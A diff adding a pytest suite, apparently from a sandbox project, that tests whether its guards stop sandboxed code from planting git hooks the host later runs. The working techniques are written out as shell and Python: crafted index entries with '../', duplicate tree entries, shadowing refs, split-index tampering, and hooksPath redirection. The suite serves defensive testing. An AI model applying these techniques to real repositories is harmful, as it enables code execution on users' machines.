@@ -1,0 +1,272 @@
+# SPDX-License-Identifier: MIT
+"""The end's checks of a protected path's tracked content (githeads.c,
+gittrees.c, gitrefs.c, gitlogs.c) after 501fa94..d9a8565: every reflog
+copied at start and judged when changed, packed-refs copied, the held
+index's checksum, what lies on the way to a protected path, what a
+config points git at, replace refs, bare and separate git directories,
+the walk at start and what is said of a repository it did not find.
+
+Each attack plants from inside (an index entry, a commit, a ref; no
+worktree file, the protected ones being read-only), then the host runs
+what a user runs (`git checkout -- .`, `git reset --hard X`) and a
+commit, which runs .husky/pre-commit (core.hooksPath = .husky): the
+sandbox's leaves MARK, the host's own HOSTRAN (the control that the
+commit ran a hook at all).  The guards run ordinary git work inside and
+check that the host's reflogs, branches and index are still there.
+
+Holes (FAIL on d9a8565; every mode of the box fixture unless said):
+  (filled in below, per test)
+"""
+import os
+import re
+import subprocess
+
+import pytest
+
+from test_hostfiles_attacks import GIT_ENV, HOOK, TOUCH, chown_tree, host
+from test_nested_round_attacks import (EVIL_COMMIT, HOST_HOOK, STAGE, host_commits, host_home,
+                                       husky_repo, planted, sandbox)
+
+LAYOUTS = {"grant": "", "grant-of-repos": "app"}
+
+# A v2 index read and written by the sandbox's python: ENTRIES added
+# (path, mode, hex id) with no stat data, so that git takes the worktree's
+# file as changed; the extensions dropped (a stale cache tree would hide
+# nothing), the SHA-1 trailer recomputed, put in place by a rename.
+INDEX_PY = r'''
+import hashlib, os, struct, sys
+def read(p):
+    d = open(p, "rb").read()
+    assert d[:4] == b"DIRC"
+    ver, n = struct.unpack(">II", d[4:12])
+    assert ver == 2, ver
+    ents, off = [], 12
+    for _ in range(n):
+        end = d.index(b"\0", off + 62)
+        name = d[off + 62:end]
+        ents.append([d[off:off + 62], name])
+        off += ((62 + len(name) + 8) // 8) * 8
+    return ents
+def write(p, ents):
+    out = b"DIRC" + struct.pack(">II", 2, len(ents))
+    for fixed, name in sorted(ents, key=lambda e: e[1]):
+        fl = struct.unpack(">H", fixed[60:62])[0] & 0xf000 | min(len(name), 0xfff)
+        e = fixed[:60] + struct.pack(">H", fl) + name
+        out += e + b"\0" * (((62 + len(name) + 8) // 8) * 8 - len(e))
+    out += hashlib.sha1(out).digest()
+    open(p + ".new", "wb").write(out)
+    os.rename(p + ".new", p)
+ents = read(".git/index")
+for a in sys.argv[1:]:
+    path, mode, oid = a.split(",")
+    fixed = b"\0" * 24 + struct.pack(">IIII", int(mode, 8), 0, 0, 0) + bytes.fromhex(oid)
+    ents.append([fixed + b"\0\0", path.encode()])
+write(".git/index", ents)
+'''
+
+
+def index_py(box):
+    return box.write("bin/index.py", INDEX_PY)
+
+
+def repo_for(box, home, layout, **kw):
+    return husky_repo(box, home, LAYOUTS[layout], **kw)
+
+
+def in_repo(box, home, repo, script):
+    return sandbox(box, home, "cd '%s' && %s" % (repo, script))
+
+
+# ---- the index: what lies on the way to a protected path --------------
+
+
+@pytest.mark.parametrize("layout", sorted(LAYOUTS))
+def test_index_entry_through_dot_dot(box, layout):
+    """Hole: an index entry `x/../.husky/pre-commit` (the index is the
+    sandbox's file: git's update-index refuses the name, the sandbox's own
+    writer does not).  Its path does not start with a protected one, so
+    on_entry() passes it; the host's `git checkout -- .` (git does not
+    check the names of the entries it reads from the index) finds
+    `x/../.husky/pre-commit` changed, removes it and writes the sandbox's
+    hook there, through x (a directory the sandbox made)."""
+    home = host_home(box)
+    repo = repo_for(box, home, layout)
+    py = index_py(box)
+    planted(in_repo(box, home, repo,
+                    "mkdir x && b=$(%s) && /usr/bin/python3 '%s' x/../.husky/pre-commit,100755,$b "
+                    "&& git ls-files -s | grep -q \"$b 0	x/../.husky/pre-commit\" && echo planted"
+                    % (HOOK, py)))
+    host_commits(box, home, repo, "git checkout -- .")
+
+
+# ---- trees: the entry git checks out --------------------------------------
+
+
+@pytest.mark.parametrize("layout", sorted(LAYOUTS))
+def test_tree_with_the_protected_entry_twice(box, layout):
+    """Hole: a root tree naming `.husky` twice, the host's tree first and
+    the sandbox's after it (git mktree keeps both; only fsck objects).
+    gittrees.c's tree_find() takes the first, which is the host's, so the
+    commit passes; git's checkout takes the last (`git reset --hard`
+    writes the sandbox's hook).  `main` moved onto it."""
+    home = host_home(box)
+    repo = repo_for(box, home, layout)
+    planted(in_repo(box, home, repo,
+                    "b=$(%s) && e=$(printf '100755 blob %%s\\tpre-commit\\n' $b | git mktree) && "
+                    "t=$(git ls-tree HEAD | awk -v e=$e '{print} $4==\".husky\" "
+                    "{print \"040000 tree \" e \"\\t.husky\"}' | git mktree) && "
+                    "c=$(echo lint | git commit-tree $t -p HEAD) && git update-ref refs/heads/main $c && "
+                    "test $(git ls-tree main | grep -c '	.husky$') = 2 && echo planted" % HOOK))
+    host_commits(box, home, repo, "git reset -q --hard")
+
+
+# ---- refs git reads beside refs/ -------------------------------------------
+
+BESIDE = {
+    # a file of the branch's name at the .git's top: git's first rule
+    # ("%s", before refs/%s, refs/heads/%s) takes it for `main`
+    "loose-main": ("main", "mkdir -p .git && printf '%s\\n' $c > .git/main"),
+    # the same for origin/main, which `git reset --hard origin/main` takes
+    "loose-origin-main": ("origin/main",
+                          "mkdir -p .git/origin && printf '%s\\n' $c > .git/origin/main"),
+    # a packed-refs line of a name outside refs/ (gh_check_packed() judges
+    # refs/ names only; git reads any name there)
+    "packed-main": ("main",
+                    "git pack-refs --all && { head -1 .git/packed-refs; echo \"$c main\"; "
+                    "tail -n +2 .git/packed-refs; } > p && mv p .git/packed-refs"),
+}
+
+
+@pytest.mark.parametrize("layout", sorted(LAYOUTS))
+@pytest.mark.parametrize("how", sorted(BESIDE))
+def test_ref_beside_the_refs_shadows_a_branch(box, layout, how):
+    """Hole: git resolves a name NAME as $GIT_DIR/NAME first (then
+    refs/NAME, refs/tags/NAME, refs/heads/NAME, refs/remotes/NAME), loose
+    or packed: a file `.git/main` or `.git/origin/main` naming the
+    sandbox's commit, or a packed-refs line `C main`, is what the host's
+    `git reset --hard main` (`origin/main`) takes (git warns the name is
+    ambiguous, and goes on).  The end judges loose refs under refs/ and
+    packed names under refs/ only.  (Where the grant is the repository
+    and namespaces are on, the view drops a loose file at the .git's
+    top: the packed line is the way there.)"""
+    home = host_home(box)
+    repo = repo_for(box, home, layout,
+                    extra=" && git update-ref refs/remotes/origin/main HEAD")
+    name, plant = BESIDE[how]
+    planted(in_repo(box, home, repo, "%s && %s && test $(git rev-parse %s) = $c && echo planted"
+                    % (EVIL_COMMIT, plant, name)))
+    host_commits(box, home, repo, "git reset -q --hard %s" % name)
+
+
+# ---- a split index ------------------------------------------------------
+
+# the id of .husky/pre-commit's entry in the shared index rewritten in its
+# own inode, the trailer (the name the split index links to) kept; the
+# split index made when the entries are no longer racy (else each is
+# replaced by one of the split index's own)
+SHARED_PY = r'''
+import glob, sys
+p, = glob.glob(".git/sharedindex.*")
+d = open(p, "rb").read()
+at = d.index(b".husky/pre-commit\0") - 2 - 20 - 40
+with open(p, "r+b") as f:
+    f.seek(at)
+    f.write(bytes(24))  # no stat data: git takes the file as changed
+    f.seek(at + 36)
+    f.write(bytes(4) + bytes.fromhex(sys.argv[1]))
+'''
+
+
+@pytest.mark.parametrize("layout", sorted(LAYOUTS))
+def test_split_index_shared_file_rewritten(box, layout):
+    """Hole: the host keeps a split index (core.splitIndex; the index names
+    sharedindex.<id> by the id in its trailer, which git reads without
+    hashing the file).  The sandbox rewrites the hook's entry in that
+    file, its trailer kept.  The end finds the shared file changed and
+    puts back the host's index, which links to the same file: git reads
+    the sandbox's entry, and `git checkout -- .` writes its hook."""
+    home = host_home(box)
+    repo = repo_for(box, home, layout, extra=" && sleep 1.1 && git config core.splitIndex true && "
+                    "git status -s && git update-index --split-index && "
+                    "ls .git/sharedindex.* >/dev/null")
+    py = box.write("bin/shared.py", SHARED_PY)
+    planted(in_repo(box, home, repo,
+                    "b=$(%s) && chmod u+w .git/sharedindex.* && /usr/bin/python3 '%s' $b && "
+                    "git ls-files -s .husky/pre-commit | grep -q $b && echo planted" % (HOOK, py)))
+    host_commits(box, home, repo, "git checkout -- .")
+
+
+# ---- what a config points git at ----------------------------------------
+
+
+def test_hooks_path_in_config_worktree(box):
+    """Hole: core.hooksPath set in the repository's config.worktree
+    (extensions.worktreeConfig, as `git config --worktree` writes it when
+    sparse checkout turned the extension on): read_pointers() reads
+    `config` only, so tools/hooks is no protected path of the tracked
+    content check.  The sandbox stages a hook there; the host's `git
+    checkout -- .` writes it and its next commit runs it."""
+    home = host_home(box)
+    repo = husky_repo(box, home, "app",
+                      extra=" && mkdir -p tools/hooks && git mv .husky/pre-commit tools/hooks/ && "
+                      "git config --unset core.hooksPath && "
+                      "git config core.repositoryformatversion 1 && "
+                      "git config extensions.worktreeConfig true && "
+                      "git config --worktree core.hooksPath tools/hooks && "
+                      "git commit -qnm tools && test -f .git/config.worktree")
+    planted(in_repo(box, home, repo,
+                    "b=$(%s) && git update-index --cacheinfo 100755,$b,tools/hooks/pre-commit && "
+                    "git ls-files -s tools/hooks/pre-commit | grep -q $b && echo planted" % HOOK))
+    host_commits(box, home, repo, "git checkout -- .")
+
+
+def test_hooks_path_through_a_link_into_another_repository(box):
+    """Hole: app's core.hooksPath = .githooks, a symbolic link (tracked in
+    app) to ../tools/hooks, a directory of the repository `tools` beside
+    it, whose hooks are tracked there.  The pointer is made absolute
+    without resolving the link (/grant/app/.githooks), so it is no
+    protected path of tools: the sandbox stages a hook in tools, the
+    host's `git checkout -- .` there writes it, and app's next commit runs
+    it."""
+    home = host_home(box)
+    tools = os.path.join(box.work, "tools")
+    os.makedirs(os.path.join(tools, "hooks"))
+    os.makedirs(os.path.join(box.work, "app"))
+    chown_tree(box, box.work)
+    h = host(box, ["sh", "-c",
+                   "cd tools && git init -q -b main && "
+                   "printf '#!/bin/sh\\n%s\\n' > hooks/pre-commit && chmod 755 hooks/pre-commit && "
+                   "git add -A && git commit -qm hooks && cd ../app && git init -q -b main && "
+                   "ln -s ../tools/hooks .githooks && git config core.hooksPath .githooks && "
+                   "echo x > f && git add -A && git commit -qnm init" % HOST_HOOK],
+             home, cwd=box.work, env=GIT_ENV)
+    assert h.returncode == 0, h.stderr
+    planted(in_repo(box, home, tools,
+                    "b=$(%s) && git update-index --cacheinfo 100755,$b,hooks/pre-commit && "
+                    "git ls-files -s hooks/pre-commit | grep -q $b && echo planted" % HOOK))
+    host_commits(box, home, os.path.join(box.work, "app"), "git checkout -- .", op_cwd=tools)
+
+
+# ---- replace refs -------------------------------------------------------------
+
+
+def test_symbolic_replace_ref(box):
+    """Hole (the repository's integrity, not a hook run): a replace ref of
+    HEAD's commit that is a symbolic ref (`ref: refs/heads/old`, `old` the
+    host's branch on HEAD~1).  git follows it (HEAD reads as HEAD~1, and
+    `git reset --hard` checks out the older tree); gh_check_ref_file()
+    judges a symbolic ref by what its target names, which passes, and
+    never reaches the rule that a replace ref made during the run goes."""
+    home = host_home(box)
+    repo = husky_repo(box, home, "app", extra=" && git branch old HEAD~1")
+    tree = host(box, ["git", "rev-parse", "HEAD^{tree}"], home, cwd=repo, env=GIT_ENV)
+    assert tree.returncode == 0, tree.stderr
+    planted(in_repo(box, home, repo,
+                    "mkdir -p .git/refs/replace && "
+                    "echo 'ref: refs/heads/old' > .git/refs/replace/$(git rev-parse HEAD) && "
+                    "test $(git rev-parse HEAD^{tree}) = $(git rev-parse old^{tree}) && "
+                    "echo planted"))
+    now = host(box, ["git", "rev-parse", "HEAD^{tree}"], home, cwd=repo, env=GIT_ENV)
+    assert now.stdout == tree.stdout, \
+        "the host's HEAD reads as another commit: " + host(
+            box, ["git", "replace", "-l", "--format=long"], home, cwd=repo, env=GIT_ENV).stdout
